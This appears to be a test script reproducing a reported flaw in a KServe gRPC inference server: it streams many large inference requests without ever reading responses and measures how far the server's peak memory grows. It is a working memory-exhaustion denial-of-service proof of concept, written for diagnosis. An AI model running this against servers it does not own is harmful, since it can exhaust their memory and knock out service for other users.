"""stream_flood.py — a ModelStreamInfer client that sends and never reads (issue 33, item 5): it
took a server from 194 MB to 1.07 GB in 6 s, still rising. Sends up to N requests on one stream
without reading an answer, for S seconds, then prints the server's peak memory growth (VmHWM,
MiB) and how many requests the server let in before it stopped reading.

The model takes FP32 [-1, WIDTH] as input "x" (an ONNX Relu): answers as large as requests,
so that they cannot all hide in the client's own receive buffers.

usage: stream_flood.py PROTO_DIR WORK GRPC_ADDR MODEL PID N S WIDTH
"""
import sys
import threading
import time

sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from kserve_py import kserve_messages  # noqa: E402

proto, work, addr, model, pid, n, seconds, width = sys.argv[1:9]
pb = kserve_messages(proto, work)
import grpc  # noqa: E402


def hwm_kib():
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmHWM"):
            return int(line.split()[1])
    return 0


base = hwm_kib()
sent = [0]
payload = bytes(int(width) * 4)


def requests():
    for k in range(int(n)):
        req = pb.ModelInferRequest(model_name=model, id=str(k))
        req.inputs.add(name="x", datatype="FP32", shape=[1, int(width)])
        req.raw_input_contents.append(payload)
        sent[0] += 1
        yield req


ch = grpc.insecure_channel(addr)
call = ch.stream_stream("/inference.GRPCInferenceService/ModelStreamInfer", request_serializer=pb.ModelInferRequest.SerializeToString,
                        response_deserializer=pb.ModelStreamInferResponse.FromString)
it = call(requests(), timeout=float(seconds) + 30)  # answers are never read
time.sleep(float(seconds))
grown = (hwm_kib() - base) // 1024
print(f"stream_flood: {sent[0]} requests taken from the client; the server's peak memory grew {grown} MiB")
it.cancel()
ch.close()
